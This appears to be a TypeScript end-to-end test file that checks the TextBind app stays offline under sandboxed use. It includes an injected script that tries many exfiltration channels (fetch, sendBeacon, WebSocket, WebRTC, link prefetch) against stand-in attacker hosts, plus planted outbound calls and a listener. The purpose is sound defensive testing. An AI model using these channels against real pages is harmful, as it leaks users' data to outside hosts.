// What is done in the network of its own: each program that we ship, used as a person uses it, and two that break the
// rules on purpose, so that a recorder that sees nothing is seen.
import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { remote } from 'webdriverio';
import { testIds } from '../../../src/renderer/test-ids.ts';
import { startDriver } from '../harness/driver.ts';
import type * as Window from '../harness/window.ts';

const root = path.resolve(import.meta.dirname, '../../..');
const model = path.join(root, 'models/textbind-mini');

/** Folders of one program; it may write only into `data` and `out`. */
export type Place = {
  readonly home: string;
  readonly temporary: string;
  readonly runtime: string;
  readonly data: string;
  readonly out: string;
  readonly trace: string;
};
type Launch = { readonly prefix: readonly string[]; readonly env: NodeJS.ProcessEnv };
type Scenario = (place: Place, launch: Launch) => Promise<void>;

/** Runs a program to its end. @throws with what it printed, where it does not end with 0 */
function runToEnd(command: readonly string[], { prefix, env }: Launch): Promise<string> {
  const [program = '', ...args] = [...prefix, ...command];
  const child = spawn(program, args, { cwd: root, env, stdio: ['ignore', 'pipe', 'pipe'] });
  let words = '';
  for (const stream of [child.stdout, child.stderr])
    stream.on('data', (data: Buffer) => (words += data.toString()));
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code, signal) =>
      code === 0 ? resolve(words) : reject(new Error(`${signal ?? code}: ${words.slice(-2000)}`)),
    );
  });
}

const node = (...args: string[]): string[] => [process.execPath, ...args];
const switches = (): string[] =>
  JSON.parse(process.env['TEXTBIND_E2E_SWITCHES'] ?? '[]') as string[];
const shipped = (): string[] => [process.env['TEXTBIND_E2E_SHIPPED'] ?? '', ...switches()];
const appForTests = (): string[] => [process.env['TEXTBIND_E2E_APP'] ?? '', ...switches()];

/** The command line answers with a picture. */
const commandLine: Scenario = async (place, launch) => {
  const input = path.join(place.out, 'in.json');
  const turn = { role: 'user', content: 'Draw a cat.', image_list: [], caption_list: [] };
  writeFileSync(input, JSON.stringify({ conversation: [turn], image_dir: '.' }));
  const args = ['chat', '--model', model, '--conversation', input, '--out', place.out, '--greedy'];
  await runToEnd(node(path.join(root, 'out/cli/main.js'), ...args, '--steps', '4'), launch);
  readFileSync(path.join(place.out, 'conversation.json'));
};

/** The worker opens a model, as a child of plain Node. */
const worker: Scenario = async (place, launch) => {
  const driver = path.join(place.out, 'driver.cjs');
  writeFileSync(
    driver,
    `const child = require('node:child_process').fork(${JSON.stringify(path.join(root, 'out/worker/main.js'))},
       { serialization: 'advanced' });
     child.on('message', (message) => {
       if (message.type === 'ready') child.send({ type: 'request', id: 'r1', name: 'model.open',
         body: { folder: ${JSON.stringify(model)}, provider: 'cpu' } });
       if (message.type === 'reply') child.send({ type: 'stop' });
       if (message.type === 'error') { console.error(message.error); process.exit(1); }
     });
     child.on('exit', (code) => process.exit(code ?? 1));`,
  );
  await runToEnd(node(driver), launch);
};

/** The app that ships: its scripted conversation (a picture, a drawing, an export) through the real window. */
const shippedApp: Scenario = async (place, launch) => {
  const args = [`--user-data-dir=${place.data}`, '--demo', `--out=${place.out}`];
  await runToEnd([...shipped(), ...args], launch);
};

/** What a page could try if somebody's words became a script in it. Resolves after each has had time to fail. */
const attack = `
  const done = arguments[arguments.length - 1];
  const hosts = ['attack.example', '198.51.100.7', '[2001:db8::7]'];
  const tries = hosts.flatMap((host) => [
    () => fetch('https://' + host + '/'),
    () => fetch('http://' + host + '/', { mode: 'no-cors' }),
    () => new WebSocket('wss://' + host + '/'),
    () => new EventSource('https://' + host + '/'),
    () => navigator.sendBeacon('https://' + host + '/', 'x'),
    () => { new Image().src = 'https://' + host + '/x.png'; },
    ...['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon'].map((rel) => () => {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: 'https://' + host + '/' + rel });
      document.head.append(link);
    }),
    () => { window.open('https://' + host + '/'); },
    () => { location.href = 'https://' + host + '/'; },
    async () => {
      const connection = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:' + host + ':3478' },
        { urls: 'turn:' + host + ':443?transport=tcp', username: 'a', credential: 'b' },
      ] });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
    },
  ]);
  for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}); } catch {}
  setTimeout(() => done(tries.length), 4000);`;

/** Opens the app that tests drive, through a WebDriver of this network, and does `work` in its window. */
function driven(work: (window: typeof Window) => Promise<void>): Scenario {
  return async (place, { prefix, env }) => {
    delete process.env['TEXTBIND_E2E_PORT'];
    const launcher = path.join(place.out, 'app');
    const words = [...prefix, ...appForTests()].map((word) => `'${word}'`).join(' ');
    const variables = Object.entries(env).map(([name, value]) => `${name}='${value}'`);
    const script = `#!/bin/sh\nexec env -i ${variables.join(' ')} ${words} "$@"\n`;
    writeFileSync(launcher, script, { mode: 0o755 });
    const driver = await startDriver();
    try {
      const options = { binary: launcher, args: [`--user-data-dir=${place.data}`] };
      globalThis.browser = await remote({
        hostname: '127.0.0.1',
        port: driver.port,
        logLevel: 'error',
        capabilities: {
          browserName: 'chrome',
          'wdio:enforceWebDriverClassic': true,
          'goog:chromeOptions': options,
        },
      });
      globalThis.$ = browser.$.bind(browser);
      globalThis.$$ = browser.$$.bind(browser);
      // Loaded now: it uses the three names above.
      await work(await import('../harness/window.ts'));
      await browser.deleteSession();
    } finally {
      driver.stop();
    }
  };
}

/** A typed message with slips of the pen, a drawing, the settings. */
const usedApp = driven(async ({ ask, byId, engineReady, type }) => {
  await engineReady();
  await type('teh qick brwn fox. ');
  const reply = await ask('Can you draw a cat?');
  if (reply.status !== 'complete') throw new Error(`the reply is ${JSON.stringify(reply)}`);
  await byId(testIds.railSettings).click();
  await byId(testIds.settingsView).waitForDisplayed();
});

const attackedApp = driven(async ({ byId, engineReady }) => {
  await engineReady();
  await browser.executeAsyncScript(attack, []);
  // It stands where it stood.
  await byId(testIds.composerInput).waitForDisplayed();
});

/** Breaks the rule on purpose: a look-up, and a connection to a bare address. */
const plantedCall: Scenario = async (_place, launch) => {
  const script = `Promise.allSettled(['http://planted.example/', 'http://192.0.2.1/'].map((each) => fetch(each)))`;
  await runToEnd(node('--eval', script), launch);
};

/** Breaks it by listening, where nobody switched anything on. */
const plantedServer: Scenario = async (_place, launch) => {
  const script = `const server = require('node:http').createServer().listen(11500, '127.0.0.1');
    setTimeout(() => server.close(), 1000);`;
  await runToEnd(node('--eval', script), launch);
};

/** Breaks it as the engine would without our line: ONNX Runtime loaded past it. */
const plantedTelemetry: Scenario = async (_place, launch) => {
  const script = `
    const ort = require('onnxruntime-node');
    import(${JSON.stringify(path.join(root, 'src/worker/runtime/providers.ts'))}).then(async ({ probeModel }) => {
      delete process.env.ORT_DISABLE_TELEMETRY;
      await ort.InferenceSession.create(probeModel);
      setTimeout(() => undefined, 500);
    });`;
  await runToEnd(node('--disable-warning=ExperimentalWarning', '--eval', script), launch);
};

export const scenarios = {
  commandLine,
  worker,
  shippedApp,
  usedApp,
  attackedApp,
  plantedCall,
  plantedTelemetry,
  plantedServer,
} as const satisfies Readonly<Record<string, Scenario>>;
